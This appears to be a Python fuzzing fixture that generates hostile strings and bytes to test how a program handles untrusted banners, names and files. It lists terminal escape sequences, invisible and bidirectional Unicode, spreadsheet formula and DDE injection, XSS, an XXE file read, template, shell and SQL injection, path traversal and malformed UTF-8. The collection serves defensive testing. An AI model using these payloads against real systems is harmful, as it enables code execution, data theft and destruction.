"""What somebody who controls a banner, a name or a file would send: at least 500 strings, made by combination.

Kinds of attack, not a copied list. `TEXTS` is what a text field may hold (also lone surrogates, as from
undecodable bytes), `BYTES` what may come over the wire.
"""

from collections.abc import Iterator
from itertools import product

ESC, BEL, ST, CSI, OSC = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"

_CONTROL_SEQUENCES = (
    "[2J",
    "[31m",
    "[1;1H",
    "[?1049h",
    "[8m",
    "[6n",
    "[21t",
    "[10000b",
    "[4i",
    "c",
    "#8",
    "(0",
    "7",
    "Z",
)
"""Clear, colour, move, other screen, hide, ask (the answer arrives as typed keys), repeat, print, reset ..."""

_OPERATING_SYSTEM_COMMANDS = (
    "0;title",
    "2;title",
    "4;1;#000000",
    "7;file:///etc/passwd",
    "8;;https://example.org/",
    "9;notify",
    "10;?",
    "52;c;cm0gLXJm",
    "52;p;?",
    "777;notify;a;b",
    "1337;File=inline=1:AAAA",
    "133;A",
)

_UNSEEN = (
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u00ad\u034f\u061c\u070f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f",
    *"\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2063\u2066\u2067\u2068\u2069\u206a\u206f",
    *"\u3164\ufe0f\ufeff\uffa0\ufff9\ufffb\ufffe\uffff\ue000\uf8ff",
    *"\U0001d173\U000e0001\U000e0041\U000e007f\U000e0100\U000f0000\U0010ffff",
    *"\ud800\udbff\udc00\udc80\udcff\udfff",
)

_FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    '=IMPORTXML("http://example.org/","//a")',
    '=WEBSERVICE("http://example.org/")',
    '=DDE("cmd";"/C calc";"x")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "\ufe62\ufe63\ufe66",
)
_BEFORE_FORMULAS = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    '" ',
    " \u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "x;",
    'x";',
    'x","',
    "x\t",
    "x\r\n",
)

_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</script><script>alert(1)//",
    "</td></tr></table>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "&lol;",
    "&#0;",
    "&#x1b;[2J",
    "&amp;lt;",
    "javascript:alert(1)",
    "[red]rich markup[/red]",
    "[/]",
    "[link=https://example.org]x[/link]",
    ":skull:",
    "{{7*7}}",
    "{% raw %}",
    "%s%n%x",
    "{0.__class__}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "' OR 1=1 --",
    "\\x1b[2J",
    "../../etc/passwd",
    "null",
    "NaN",
    "\\",
    '"',
    '""',
    '\\"',
    ",",
    ",,,,,,,,,,,,,,,,,,,,",
    "{",
    '{"type":"summary"}',
    '\n{"type":"summary","complete":true}\n',
    "\r\nfinding_id,sweep_id\r\n",
    "",
    " ",
)

_GIGANTIC = (
    "A" * 100_000,
    "\x1b[2J" * 20_000,
    "\u202e" * 50_000,
    '"' * 50_000,
    ";=" * 50_000,
    "e" + "\u0301" * 50_000,
    "\U0001f600" * 20_000,
)


def _texts() -> Iterator[str]:
    for start, sequence in product((ESC, ESC * 2), _CONTROL_SEQUENCES):
        yield f"SSH-2.0-{start}{sequence}x"
    yield from (CSI + sequence[1:] for sequence in _CONTROL_SEQUENCES if sequence.startswith("["))
    for (start, command), end in product(product((ESC + "]", OSC), _OPERATING_SYSTEM_COMMANDS), (BEL, ST, "\x9c", "")):
        yield f"{start}{command}{end}"
    yield from (f"{ESC}{start}payload{ST}" for start in "P^_X")
    yield from (f"a{char}b" for char in _UNSEEN)
    yield from (before + formula for before, formula in product(_BEFORE_FORMULAS, _FORMULAS))
    yield from _MARKUP
    yield from _GIGANTIC
    yield "user\u202etxt.exe\u202c ok"
    yield "if access != 'user\u202e \u2066// admin\u2069 \u2066':"


TEXTS: tuple[str, ...] = tuple(dict.fromkeys(_texts()))
"""Hostile texts, each once."""

BYTES: tuple[bytes, ...] = (
    *(text.encode("utf-8", "surrogatepass") for text in TEXTS),
    *(bytes([value]) * 3 for value in range(256)),
    b"\xc0\xaf\xe0\x80\xaf",
    b"\xf4\x90\x80\x80",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xff\xfe=\x001\x00",
    b"\xef\xbb\xbf=1+1",
    b"\xe2\x80",
    bytes(range(256)) * 400,
)
"""Hostile bytes: the texts, every byte value, overlong, truncated and impossible UTF-8."""
